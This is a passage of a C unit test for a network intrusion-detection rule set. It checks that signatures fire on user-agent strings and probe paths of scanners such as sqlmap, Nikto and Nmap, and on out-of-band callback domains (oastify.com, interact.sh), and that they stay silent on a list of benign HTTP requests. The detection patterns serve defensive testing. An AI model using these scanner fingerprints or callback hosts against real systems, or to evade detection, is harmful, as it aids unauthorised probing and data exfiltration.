	NEG(8806020, "", HOST("metadata-api.default.svc.cluster.local")),
	NEG(8806020, "", HOST("169.254.169.254.example.com")),

	/* ---- scanner ---- */
	POS(8807001, "", UA("sqlmap/1.7.2#stable (https://sqlmap.org)")),
	NEG(8807001, "", UA("sqlmapper-client/1.0")),
	POS(8807002, "", UA("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")),
	NEG(8807002, "", UA("Nikto-fan-club-bot")),
	POS(8807003, "", UA("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
	NEG(8807003, "", UA("nmap-tutorial-reader/1.0")),
	POS(8807004, "", UA("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
	NEG(8807004, "", UA("masscanner-dashboard")),
	POS(8807005, "", UA("Mozilla/5.0 zgrab/0.x")),
	NEG(8807005, "", UA("zgrabber")),
	POS(8807006, "", UA("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
	NEG(8807006, "", UA("nuclei-viewer/2.0")),
	POS(8807007, "", UA("gobuster/3.6")),
	NEG(8807007, "", UA("gobusters-game")),
	POS(8807008, "", UA("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")),
	NEG(8807008, "", UA("dirb")),
	POS(8807009, "", UA("Wfuzz/3.1.0")),
	NEG(8807009, "", UA("wfuzzy-logic")),
	POS(8807010, "", UA("Fuzz Faster U Fool v2.1.0-dev")),
	POS(8807010, "", UA("ffuf/2.1.0")),
	NEG(8807010, "", UA("Mozilla/5.0 ffuf-docs")),
	POS(8807011, "", HDR("Host: a\r\nAcunetix-Aspect: enabled\r\nAcunetix-Aspect-Password: 082119f75623eb7abd7bf357698ff66c\r\n")),
	NEG(8807011, "", HDR("X-Scanned-By: acunetix-free-trial-blog\r\n")),
	POS(8807012, "", RAW("/acunetix-wvs-test-for-some-inexistent-file")),
	POS(8807012, "", RAW("/search?q=acunetix_wvs_security_test")),
	NEG(8807012, "", RAW("/blog/acunetix-review")),
	POS(8807013, "", RAW("/nessus_is_probing_you_")),
	POS(8807013, "", RAW("/NessusTest1234.html")),
	NEG(8807013, "", RAW("/docs/nessus-setup")),
	POS(8807014, "", UA("Nessus SOAP v0.0.1 (Nessus.org)")),
	NEG(8807014, "", UA("Nessusville-weather/1.0")),
	POS(8807015, "", UA("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)")),
	NEG(8807015, "", UA("Open-VAS-client")),
	POS(8807016, "", UA("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)")),
	NEG(8807016, "", UA("w3afan/1.0")),
	POS(8807017, "", UA("WhatWeb/0.5.5")),
	NEG(8807017, "", UA("WhatWebsite-monitor")),
	POS(8807018, "", UA("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")),
	NEG(8807018, "", UA("wpscanner-lite")),
	POS(8807020, "", HOST("x7k2m9q4w1z8p3n6.oastify.com")),
	POS(8807020, "", HOST("abc.oast.fun")),
	NEG(8807020, "", HOST("oastify.com.example.net")),
	NEG(8807020, "", HOST("toast.pro")),
	POS(8807021, "", PARAM("http://x7k2m9q4w1z8p3n6.oastify.com/")),
	POS(8807021, "", PARAM("ckq5l2p3b9s7d0.oast.pro")),
	NEG(8807021, "", PARAM("burpcollaborator.net")),
	POS(8807022, "", DNSQ("x7k2m9q4w1z8p3n6.oastify.com")),
	POS(8807022, "", DNSQ("c59abcdef.interact.sh")),
	NEG(8807022, "", DNSQ("oastify.com.evil.example")),
	NEG(8807022, "", DNSQ("interact.shop")),
	POS(8807030, "", RAW("/nice%20ports%2C/Tri%6Eity.txt%2ebak")),
	NEG(8807030, "", RAW("/nice ports/Trinity.txt")),
	POS(8807031, "", RAW("/nmaplowercheck1718123456")),
	POS(8807031, "", RAW("/NmapUpperCheck1718123456")),
	POS(8807031, "", RAW("/Nmap/folder/check1718123456")),
	NEG(8807031, "", RAW("/docs/nmaplowercheck")),
};
#define N_CASES (sizeof(cases) / sizeof(cases[0]))

static bool set_has_sid(uint32_t sid)
{
	for (size_t i = 0; fx.set && i < fx.set->n_rules; i++)
		if (fx.set->rules[i].sid == sid)
			return true;
	return false;
}

/* Parses @also into @out (at most @cap sids); returns the count. */
static size_t parse_sids(const char *also, uint32_t *out, size_t cap)
{
	size_t n = 0;

	for (const char *p = also; *p;) {
		char *end;
		unsigned long v = strtoul(p, &end, 10);

		if (end == p)
			break;
		if (n < cap)
			out[n++] = (uint32_t)v;
		p = end;
	}
	return n;
}

static void print_case(const struct tcase *c)
{
	for (size_t k = 0; k < 4 && c->in[k].v; k++)
		fprintf(stderr, "    %s: [%s]\n", dpi_rule_buffer_name(c->in[k].b), c->in[k].v);
}

static void test_cases(void)
{
	size_t npos = 0, nneg = 0;

	for (size_t i = 0; i < N_CASES; i++) {
		const struct tcase *c = &cases[i];
		uint32_t want[16];
		size_t nw = parse_sids(c->also, want, 15);
		enum dpi_rule_app app = DPI_RULE_APP_HTTP;
		struct txb t;
		struct got g;
		bool ok = true;

		CHECK(set_has_sid(c->sid));
		if (c->pos)
			want[nw++] = c->sid;
		for (size_t k = 0; k < 4 && c->in[k].v; k++)
			if (c->in[k].b == DPI_RB_DNS_QUERY)
				app = DPI_RULE_APP_DNS;
		txb_init(&t, app);
		for (size_t k = 0; k < 4 && c->in[k].v; k++)
			txb_add(&t, c->in[k].b, c->in[k].v);
		g = run_tx(&t);
		/* exactly the expected alerts: each wanted sid once, nothing else */
		for (size_t w = 0; w < nw; w++)
			ok = ok && got_has(&g, want[w]) && want[w] != (c->pos ? 0 : c->sid);
		ok = ok && (size_t)g.n == nw && got_has(&g, c->sid) == c->pos;
		CHECK(ok);
		if (!ok) {
			fprintf(stderr, "%s:%d: sid %u %s, also [%s]; fired:", __FILE__, c->line, c->sid,
				c->pos ? "must fire" : "must not fire", c->also);
			for (int k = 0; k < g.n && k < MAX_ALERTS; k++)
				fprintf(stderr, " %u", g.sid[k]);
			fprintf(stderr, "\n");
			print_case(c);
		}
		if (c->pos)
			npos++;
		else
			nneg++;
	}
	printf("# %zu cases: %zu positive, %zu negative\n", N_CASES, npos, nneg);
}

/* Every sid in the files has a positive and a negative case. */
static void test_coverage(void)
{
	size_t missing = 0;

	for (size_t i = 0; fx.set && i < fx.set->n_rules; i++) {
		uint32_t sid = fx.set->rules[i].sid;
		size_t pos = 0, neg = 0;

		for (size_t k = 0; k < N_CASES; k++) {
			if (cases[k].sid != sid)
				continue;
			if (cases[k].pos)
				pos++;
			else
				neg++;
		}
		CHECK(pos > 0 && neg > 0);
		if (!pos || !neg) {
			missing++;
			fprintf(stderr, "  sid %u (%s:%u) has %zu positive and %zu negative cases\n", sid,
				fx.set->rules[i].file, fx.set->rules[i].line, pos, neg);
		}
	}
	printf("# coverage: %zu of %zu sids lack a positive or a negative case\n", missing,
	       fx.set ? fx.set->n_rules : 0);
}

/* ---------------------------------------------------------- false positives */

static const char hexd[] = "0123456789ABCDEF";

/* Percent-encodes @n bytes of @s into @out (room for 3 * n + 1). @browser:
 * only what a browser escapes in a query (controls, space, " # ' < >, and
 * the bytes that would change the query's structure: % & +); else every
 * byte but the unreserved ones. */
static void pct_encode(const char *s, size_t n, bool browser, char *out)
{
	size_t k = 0;

	for (size_t i = 0; i < n; i++) {
		unsigned char ch = (unsigned char)s[i];
		bool keep;

		if (browser)
			keep = ch > 0x20 && ch < 0x7f && !strchr("\"#'<>%&+", ch);
		else
			keep = isalnum(ch) || (ch && strchr("-._~", ch));
		if (keep) {
			out[k++] = (char)ch;
		} else {
			out[k++] = '%';
			out[k++] = hexd[ch >> 4];
			out[k++] = hexd[ch & 15];
		}
	}
	out[k] = '\0';
}

static int hexv(char ch)
{
	if (ch >= '0' && ch <= '9')
		return ch - '0';
	if (ch >= 'a' && ch <= 'f')
		return ch - 'a' + 10;
	if (ch >= 'A' && ch <= 'F')
		return ch - 'A' + 10;
	return -1;
}

/* Percent-decodes @n bytes of @s once into @out (room for n + 1); @plus: '+'
 * is a space (form values). Returns the decoded length. */
static size_t pct_decode(const char *s, size_t n, bool plus, char *out)
{
	size_t k = 0;

	for (size_t i = 0; i < n; i++) {
		if (s[i] == '%' && i + 2 < n && hexv(s[i + 1]) >= 0 && hexv(s[i + 2]) >= 0) {
			out[k++] = (char)(hexv(s[i + 1]) << 4 | hexv(s[i + 2]));
			i += 2;
		} else {
			out[k++] = plus && s[i] == '+' ? ' ' : s[i];
		}
	}
	out[k] = '\0';
	return k;
}

/* Adds each value of a query or form string "a=1&b=2" as an http.param. */
static void add_params(struct txb *t, const char *q, size_t n)
{
	char *dec = malloc(n + 1);

	if (!dec)
		abort();
	for (size_t i = 0; i < n;) {
		const char *seg = q + i, *amp = memchr(seg, '&', n - i);
		size_t len = amp ? (size_t)(amp - seg) : n - i;
		const char *eq = memchr(seg, '=', len);

		if (eq) {
			size_t vlen = len - (size_t)(eq + 1 - seg);
			size_t d = pct_decode(eq + 1, vlen, true, dec);

			txb_addn(t, DPI_RB_HTTP_PARAM, dec, d);
		}
		i += len + 1;
	}
	free(dec);
}

struct fp_tally {
	size_t tx, alerts;
	size_t by_buf[DPI_RB__COUNT];
	int printed;
};

static void tally(struct fp_tally *ft, const struct got *g, const char *what)
{
	ft->tx++;
	ft->alerts += (size_t)g->n;
	for (int k = 0; k < g->n && k < MAX_ALERTS; k++) {
		ft->by_buf[g->buf[k]]++;
		if (ft->printed++ < 25)
			fprintf(stderr, "  false positive: sid %u in %s of [%.200s]\n", g->sid[k],
				dpi_rule_buffer_name(g->buf[k]), what);
	}
}

static void test_benign_corpus(void)
{
	struct fp_tally ft = {0}, fb = {0};
	FILE *f = fopen(benign_path, "rb");
	char *line = NULL, *enc = NULL, *uri = NULL;
	size_t cap = 0, lines = 0;
	ssize_t n;

	CHECK(f != NULL);
	if (!f) {
		fprintf(stderr, "  cannot open %s\n", benign_path);
		return;
	}
	while ((n = getline(&line, &cap, f)) > 0) {
		struct txb t;
		struct got g;
		size_t len = (size_t)n;

		while (len && (line[len - 1] == '\n' || line[len - 1] == '\r'))
			len--;
		line[len] = '\0';
		if (!len)
			continue;
		lines++;
		enc = realloc(enc, 3 * len + 32);
		uri = realloc(uri, 3 * len + 32);
		if (!enc || !uri)
			abort();

		/* As a parameter, a body and the query of the normalised and the
		 * (fully encoded) raw URI, in one transaction. */
		txb_init(&t, DPI_RULE_APP_HTTP);
		txb_addn(&t, DPI_RB_HTTP_PARAM, line, len);
		txb_addn(&t, DPI_RB_HTTP_REQUEST_BODY, line, len);
		snprintf(uri, 3 * len + 32, "/search?q=%s", line);
		txb_add(&t, DPI_RB_HTTP_URI, uri);
		pct_encode(line, len, false, enc);
		snprintf(uri, 3 * len + 32, "/search?q=%s", enc);
		txb_add(&t, DPI_RB_HTTP_URI_RAW, uri);
		g = run_tx(&t);
		tally(&ft, &g, line);

		/* The raw URI as a browser sends it: most punctuation unencoded. */
		txb_init(&t, DPI_RULE_APP_HTTP);
		pct_encode(line, len, true, enc);
		snprintf(uri, 3 * len + 32, "/search?q=%s", enc);
		txb_add(&t, DPI_RB_HTTP_URI_RAW, uri);
		g = run_tx(&t);
		tally(&fb, &g, uri);
	}
	fclose(f);
	free(line);
	free(enc);
	free(uri);
	CHECK(lines > 1000);
	CHECK_EQ(ft.alerts, 0);
	CHECK_EQ(fb.alerts, 0);
	printf("# benign corpus: %zu lines; alerts: http.param %zu, http.request_body %zu, "
	       "http.uri %zu, http.uri.raw %zu, http.uri.raw browser-encoded %zu\n",
	       lines, ft.by_buf[DPI_RB_HTTP_PARAM], ft.by_buf[DPI_RB_HTTP_REQUEST_BODY],
	       ft.by_buf[DPI_RB_HTTP_URI], ft.by_buf[DPI_RB_HTTP_URI_RAW], fb.alerts);
}

/* A benign request as a client sends it. */
struct req {
	const char *method, *target, *host, *ua, *cookie, *ctype, *headers, *body;
};

static const struct req benign_reqs[] = {
	{"GET", "/healthz", "10.244.1.17:8080", "kube-probe/1.29", NULL, NULL,
	 "Accept: */*\r\nConnection: close\r\n", NULL},
	{"GET", "/readyz?verbose=1", "10.244.2.9:8443", "kube-probe/1.28", NULL, NULL, NULL, NULL},
	{"GET", "/metrics", "10.244.3.4:9102", "Prometheus/2.51.0", NULL, NULL,
	 "Accept: application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1\r\n"
	 "Accept-Encoding: gzip\r\nX-Prometheus-Scrape-Timeout-Seconds: 10\r\n", NULL},
	{"GET", "/api/v1/users?limit=50&offset=100&sort=id", "users.default.svc", "curl/8.5.0", NULL, NULL,
	 "Accept: */*\r\n", NULL},
	{"POST", "/api/v1/orders", "orders.shop.svc.cluster.local", "python-requests/2.31.0", NULL,
	 "application/json",
	 "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvcmRlcnMifQ.c2ln\r\nAccept: */*\r\n",
	 "{\"sku\":\"A-1001\",\"qty\":2,\"note\":\"leave at the door; ring twice | thanks\"}"},
	{"GET", "/v2/library/nginx/manifests/1.25", "registry.internal:5000", "Go-http-client/1.1", NULL,
	 NULL, "Accept: application/vnd.docker.distribution.manifest.v2+json\r\n", NULL},
	{"POST", "/apis/batch/v1/namespaces/ci/jobs", "kubernetes.default.svc", "Go-http-client/2.0", NULL,
	 "application/json", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln\r\n",
	 "{\"apiVersion\":\"batch/v1\",\"kind\":\"Job\",\"metadata\":{\"name\":\"build-42\"},\"spec\":"
	 "{\"template\":{\"spec\":{\"containers\":[{\"name\":\"build\",\"image\":\"golang:1.22\","
	 "\"command\":[\"/bin/sh\",\"-c\",\"make test && make build\"]}],\"restartPolicy\":\"Never\"}}}}"},
	{"GET", "/", "shop.example.com",
	 "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	 "session=9f2c1e7a; theme=dark; _ga=GA1.2.123456789.1712345678", NULL,
	 "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n"
	 "Accept-Language: en-US,en;q=0.5\r\nUpgrade-Insecure-Requests: 1\r\n", NULL},
	{"GET", "/search?q=how+to+configure+nginx+reverse+proxy&hl=en", "www.example.com",
	 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	 "Chrome/124.0.0.0 Safari/537.36", NULL, NULL,
	 "sec-ch-ua: \"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"\r\n"
	 "sec-ch-ua-platform: \"Windows\"\r\nReferer: https://www.example.com/\r\n", NULL},
	{"POST", "/comments", "blog.example.com",
	 "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
	 "Chrome/124.0.0.0 Safari/537.36", "csrftoken=Zm9vYmFyYmF6", "application/x-www-form-urlencoded",
	 "Origin: https://blog.example.com\r\nReferer: https://blog.example.com/post/42\r\n",
	 "author=Mary+O%27Brien&text=I+love+scripts+and+%3Cb%3Ebold%3C%2Fb%3E+text.+See+"
	 "%3Ca+href%3D%22https%3A%2F%2Fexample.org%2F%22%3Ethis%3C%2Fa%3E%21&post_id=42"},
	{"GET", "/static/js/app.3f9c2b.js", "shop.example.com",
	 "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	 "Version/17.4 Safari/605.1.15", "session=9f2c1e7a", NULL,
	 "Referer: https://shop.example.com/cart\r\nAccept: */*\r\n", NULL},
	{"POST", "/graphql", "gateway.internal", "apollo-client/3.9", NULL, "application/json", NULL,
	 "{\"query\":\"query GetUser($id: ID!) { user(id: $id) { name email orders(first: 10) { id total } } }\","
	 "\"variables\":{\"id\":\"42\"}}"},
	{"POST", "/logs-2024.05/_search", "elasticsearch.logging.svc:9200", "elastic-transport-go/8.13",
	 NULL, "application/json", NULL,
	 "{\"query\":{\"bool\":{\"must\":[{\"match\":{\"message\":\"connection refused\"}}],\"filter\":"
	 "[{\"range\":{\"@timestamp\":{\"gte\":\"now-1h\"}}}]}},\"script_fields\":{\"double\":{\"script\":"
	 "{\"source\":\"doc['bytes'].value * 2\"}}}}"},
	{"POST", "/hooks/T000/B000/XXXX", "hooks.chat.example.com", "Go-http-client/1.1", NULL,
	 "application/json", NULL,
	 "{\"text\":\"Deploy `api` v1.4.2 finished: <https://ci.example.com/run/981|run 981>. "
	 "Run `kubectl rollout status deploy/api` to follow.\"}"},
	{"POST", "/webhook", "ci.internal", "GitHub-Hookshot/5b1c2a3", NULL, "application/json",
	 "X-GitHub-Event: push\r\nX-Hub-Signature-256: sha256=3f1c9e\r\n",
	 "{\"ref\":\"refs/heads/main\",\"compare\":\"https://github.com/org/repo/compare/abc123...def456\","
	 "\"head_commit\":{\"message\":\"Fix ../ handling in path join; add tests for C:\\\\Users paths\"}}"},
	{"POST", "/oauth/token", "auth.internal", "Go-http-client/1.1", NULL,
	 "application/x-www-form-urlencoded", "Authorization: Basic c3ZjLWJpbGxpbmc6c2VjcmV0\r\n",
	 "grant_type=client_credentials&client_id=svc-billing&scope=orders%3Aread+orders%3Awrite"},
	{"PUT", "/reports/2024/05/summary.csv", "minio.storage.svc:9000",
	 "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64", NULL, "text/csv",
	 "x-amz-content-sha256: UNSIGNED-PAYLOAD\r\n",
	 "date,region,orders,revenue\n2024-05-01,eu-west-1,1042,18230.50\n2024-05-01,us-east-1,2210,40112.00\n"},
	{"PUT", "/assets/index.html", "minio.storage.svc:9000", "MinIO (linux; amd64) minio-go/v7.0.70", NULL,
	 "text/html", NULL,
	 "<!doctype html><html><head><script src=\"/app.js\"></script></head>"
	 "<body onload=\"init()\"><iframe src=\"/embed\"></iframe></body></html>"},
	{"GET", "/api/v1/query_range?query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))"
	 "&start=1714550400&end=1714554000&step=15", "prometheus.monitoring.svc:9090", "Grafana/10.4.2",
	 NULL, NULL, "X-Grafana-Org-Id: 1\r\n", NULL},
	{"GET", "/ping", "10.244.0.12:8080", "Envoy/HC", NULL, NULL, "x-envoy-expected-rq-timeout-ms: 1000\r\n",
	 NULL},
	{"GET", "/api/inventory/items?category=garden%20tools&sort=price_asc", "inventory:8080",
	 "Apache-HttpClient/4.5.14 (Java/17.0.10)", NULL, NULL, NULL, NULL},
	{"POST", "/api/v2/search", "search.default.svc", "axios/1.6.8", NULL, "application/json;charset=UTF-8",
	 NULL, "{\"q\":\"O'Reilly books on SQL; select the best\",\"filters\":{\"lang\":[\"en\",\"de\"]}}"},
	{"GET", "/downloads/release-1.2.3.tar.gz", "files.internal", "Wget/1.21.3", NULL, NULL, NULL, NULL},
	{"GET", "/v2/", "registry.internal:5000",
	 "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0-18-amd64 os/linux arch/amd64 "
	 "UpstreamClient(Docker-Client/24.0.7 \\(linux\\))", NULL, NULL, NULL, NULL},
	{"GET", "/charts/index.yaml", "charts.internal", "Helm/3.14.2", NULL, NULL, NULL, NULL},
	{"GET", "/v1/health/service/web?passing=1&index=1234&wait=5m", "consul.service.consul:8500",
	 "Go-http-client/1.1", NULL, NULL, "X-Consul-Token: 5c2a9e0b-1f3d-4c8a-9e7b-2d6f1a3c5b7e\r\n", NULL},
	{"POST", "/v1/auth/kubernetes/login", "vault.vault.svc:8200", "Go-http-client/1.1", NULL,
	 "application/json", NULL,
	 "{\"role\":\"billing\",\"jwt\":\"eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJzeXN0ZW06c2Vydmlj"
	 "ZWFjY291bnQ6YmlsbGluZzpkZWZhdWx0In0.c2lnbmF0dXJl\"}"},
	{"POST", "/login", "app.example.com",
	 "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", NULL,
	 "application/x-www-form-urlencoded", "Origin: https://app.example.com\r\n",
	 "username=alice%40example.com&password=Tr0ub4dor%263%3B%7Cx&remember=on"},
	{"DELETE", "/api/v1/sessions/7f3e2a10-9c1d-4b8e-a5f2-3d6c9e0b1a27", "sessions.default.svc",
	 "python-requests/2.31.0", NULL, NULL, "Authorization: Bearer dG9rZW4=\r\n", NULL},
	{"PATCH", "/apis/apps/v1/namespaces/default/deployments/web", "kubernetes.default.svc",
	 "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", NULL, "application/merge-patch+json", NULL,
	 "{\"spec\":{\"replicas\":3,\"template\":{\"metadata\":{\"annotations\":{\"kubectl.kubernetes.io/"
	 "restartedAt\":\"2024-05-01T10:00:00Z\"}}}}}"},
	{"GET", "/docs/shell-scripting?topic=pipes%20and%20redirection&example=ls%20-la%20%7C%20grep%20conf",
	 "docs.internal",
	 "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	 NULL, NULL, "Referer: https://www.google.com/search?q=%3Cb%3E+tag+html\r\n", NULL},
	{"PUT", "/api/pages/release-notes", "cms.internal", "axios/1.6.8", NULL, "application/json", NULL,
	 "{\"title\":\"Release notes\",\"html\":\"<p>Fixed <b>login</b> bug. See <a href=\\\"https://docs."
	 "example.com/rn\\\" title=\\\"notes\\\">notes</a>.</p><img src=\\\"/img/chart.png\\\" alt=\\\"chart\\\">\"}"},
	{"POST", "/job/build/buildWithParameters", "jenkins.ci.svc:8080", "Go-http-client/1.1", NULL,
	 "application/x-www-form-urlencoded", NULL,
	 "BRANCH=main&CMD=make%20test%20%26%26%20make%20package&NOTIFY=%23builds"},
	{"GET", "/v1/items/42/metadata", "metadata-api.default.svc.cluster.local", "Go-http-client/1.1", NULL,
	 NULL, NULL, NULL},
	{"GET", "/login?redirect=https%3A%2F%2Fapp.example.com%2Fdashboard%3Ftab%3Dbilling", "app.example.com",
	 "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	 "Version/17.4 Mobile/15E148 Safari/604.1", "session=eyJ1c2VyIjoiYWxpY2UifQ%3D%3D", NULL, NULL, NULL},
	{"POST", "/", "sts.us-east-1.amazonaws.com", "aws-sdk-go-v2/1.26.1", NULL,
	 "application/x-www-form-urlencoded", NULL,
	 "Action=AssumeRoleWithWebIdentity&RoleArn=arn%3Aaws%3Aiam%3A%3A123456789012%3Arole%2Fbilling&"
	 "RoleSessionName=billing-7f3e&Version=2011-06-15"},
	{"POST", "/v1/traces", "otel-collector.observability.svc:4318", "OTel-OTLP-Exporter-Go/1.26.0", NULL,
	 "application/json", NULL,
	 "{\"resourceSpans\":[{\"resource\":{\"attributes\":[{\"key\":\"service.name\",\"value\":"
	 "{\"stringValue\":\"checkout\"}}]},\"scopeSpans\":[{\"spans\":[{\"name\":\"SELECT orders\","
	 "\"attributes\":[{\"key\":\"db.statement\",\"value\":{\"stringValue\":\"SELECT id, total FROM "
	 "orders WHERE user_id = $1\"}}]}]}]}]}"},
	{"GET", "/api/files?path=docs%2Freadme.md&ref=main", "git.internal", "git/2.39.2", NULL, NULL, NULL,
	 NULL},
	{"POST", "/api/v1/alerts", "alertmanager.monitoring.svc:9093", "Alertmanager/0.27.0", NULL,
	 "application/json", NULL,
	 "[{\"labels\":{\"alertname\":\"HighLatency\",\"severity\":\"warning\"},\"annotations\":{\"summary\":"
	 "\"p99 > 500ms for 10m\",\"runbook\":\"https://runbooks.internal/latency#mitigation\"}}]"},
	{"GET", "/search?q=union+station+parking+%26+drop-off&page=2", "maps.example.com",
	 "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
	 "Chrome/124.0.0.0 Mobile Safari/537.36", NULL, NULL, NULL, NULL},
};
#define N_REQS (sizeof(benign_reqs) / sizeof(benign_reqs[0]))

/* Builds the transaction the HTTP layer produces for @q (see the buffer
 * contract in dpi_rules.h and the brief of this test). */
static void build_req(struct txb *t, const struct req *q)
{
	const char *qm = strchr(q->target, '?');
	size_t plen = qm ? (size_t)(qm - q->target) : strlen(q->target);
	size_t tlen = strlen(q->target), hlen;
	char *buf = malloc(tlen + 2), *hdr, *host;
	size_t k;

	if (!buf)
		abort();
	txb_init(t, DPI_RULE_APP_HTTP);
	txb_add(t, DPI_RB_HTTP_METHOD, q->method);
	txb_add(t, DPI_RB_HTTP_URI_RAW, q->target);
	/* http.uri: decoded path, then '?' and the query decoded once ('+' kept) */
	k = pct_decode(q->target, plen, false, buf);
	if (qm) {
		buf[k++] = '?';
		k += pct_decode(qm + 1, tlen - plen - 1, false, buf + k);
	}
	txb_addn(t, DPI_RB_HTTP_URI, buf, k);
	if (qm)
		add_params(t, qm + 1, tlen - plen - 1);
	if (q->body && q->ctype && strncmp(q->ctype, "application/x-www-form-urlencoded", 33) == 0)
		add_params(t, q->body, strlen(q->body));
	if (q->body)
		txb_add(t, DPI_RB_HTTP_REQUEST_BODY, q->body);
	free(buf);

	hlen = 256 + strlen(q->host) + (q->ua ? strlen(q->ua) : 0) + (q->cookie ? strlen(q->cookie) : 0) +
	       (q->ctype ? strlen(q->ctype) : 0) + (q->headers ? strlen(q->headers) : 0);
	hdr = malloc(hlen);
	host = strdup(q->host);
	if (!hdr || !host)
		abort();
	snprintf(hdr, hlen, "Host: %s\r\n%s%s%s%s%s%s%s%s", q->host, q->ua ? "User-Agent: " : "",
		 q->ua ? q->ua : "", q->ua ? "\r\n" : "", q->headers ? q->headers : "",
		 q->cookie ? "Cookie: " : "", q->cookie ? q->cookie : "", q->cookie ? "\r\n" : "",
		 q->ctype ? "Content-Type: " : "");
	if (q->ctype) {
		size_t used = strlen(hdr);

		snprintf(hdr + used, hlen - used, "%s\r\n", q->ctype);
	}
	txb_add(t, DPI_RB_HTTP_HEADER, hdr);
	free(hdr);
	/* http.host: the lower-cased host name, without the port */
	for (char *c = host; *c; c++) {
		if (*c == ':') {
			*c = '\0';
			break;
		}
		*c = (char)tolower((unsigned char)*c);
	}
	txb_add(t, DPI_RB_HTTP_HOST, host);
	free(host);
	if (q->ua)
		txb_add(t, DPI_RB_HTTP_USER_AGENT, q->ua);
	if (q->cookie)
		txb_add(t, DPI_RB_HTTP_COOKIE, q->cookie);
}

static void test_benign_requests(void)
{
	struct fp_tally ft = {0};
	size_t nvals = 0;

	for (size_t i = 0; i < N_REQS; i++) {
		struct txb t;
		struct got g;

		build_req(&t, &benign_reqs[i]);
		for (size_t b = 0; b < DPI_RB__COUNT; b++)
			nvals += t.tx.nvals[b];
		g = run_tx(&t);
		tally(&ft, &g, benign_reqs[i].target);
	}
	CHECK(N_REQS >= 30);
	CHECK_EQ(ft.alerts, 0);
	printf("# benign requests: %zu requests, %zu values, %zu alerts\n", N_REQS, nvals, ft.alerts);
}

/* The request builder itself: a form post yields its decoded values. */
static void test_request_builder(void)
{
	static const struct req q = {"POST", "/a%20b/c?x=1%2B1&y=a+b", "Web.Example.COM:8080", "t/1", "k=v",
				     "application/x-www-form-urlencoded", NULL, "z=%3Cb%3E+hi"};
	struct txb t;

	build_req(&t, &q);
	CHECK_EQ(t.tx.nvals[DPI_RB_HTTP_PARAM], 3);
	CHECK(t.tx.nvals[DPI_RB_HTTP_PARAM] == 3 &&
	      memcmp(t.v[DPI_RB_HTTP_PARAM][0].p, "1+1", 3) == 0 &&
	      memcmp(t.v[DPI_RB_HTTP_PARAM][1].p, "a b", 3) == 0 &&
	      memcmp(t.v[DPI_RB_HTTP_PARAM][2].p, "<b> hi", 6) == 0);
	CHECK(t.tx.nvals[DPI_RB_HTTP_URI] == 1 && t.v[DPI_RB_HTTP_URI][0].len == 18 &&
	      memcmp(t.v[DPI_RB_HTTP_URI][0].p, "/a b/c?x=1+1&y=a+b", 18) == 0);
	CHECK(t.tx.nvals[DPI_RB_HTTP_HOST] == 1 && t.v[DPI_RB_HTTP_HOST][0].len == 15 &&
	      memcmp(t.v[DPI_RB_HTTP_HOST][0].p, "web.example.com", 15) == 0);
	txb_free(&t);
}

int main(int argc, char **argv)
{
	const char *f = __FILE__, *slash = strrchr(f, '/');
	int dir = slash ? (int)(slash - f) : 0;

	/* tests/unit/test_builtin_rules.c -> dpi/rules, tests/data/sqli */
	if (argc > 1)
		snprintf(rules_dir, sizeof(rules_dir), "%s", argv[1]);
	else
		snprintf(rules_dir, sizeof(rules_dir), "%.*s%s../../dpi/rules", dir, f, dir ? "/" : "");
	if (argc > 2)
		snprintf(benign_path, sizeof(benign_path), "%s", argv[2]);
	else
		snprintf(benign_path, sizeof(benign_path), "%.*s%s../data/sqli/benign.txt", dir, f,
			 dir ? "/" : "");

	if (load_all() < 0) {
		fprintf(stderr, "cannot load and compile the rule files in %s\n", rules_dir);
		dpi_sig_scratch_free(fx.s);
		dpi_sig_db_free(fx.db);
		dpi_rules_free(fx.set);
		return 1;
	}
	printf("# %zu rules from %s\n", fx.set->n_rules, rules_dir);
	RUN(test_conventions);
	RUN(test_cases);
	RUN(test_coverage);
	RUN(test_request_builder);
	RUN(test_benign_requests);
	RUN(test_benign_corpus);
	dpi_sig_scratch_free(fx.s);
	dpi_sig_db_free(fx.db);
	dpi_rules_free(fx.set);
	return bh_test_summary();
}
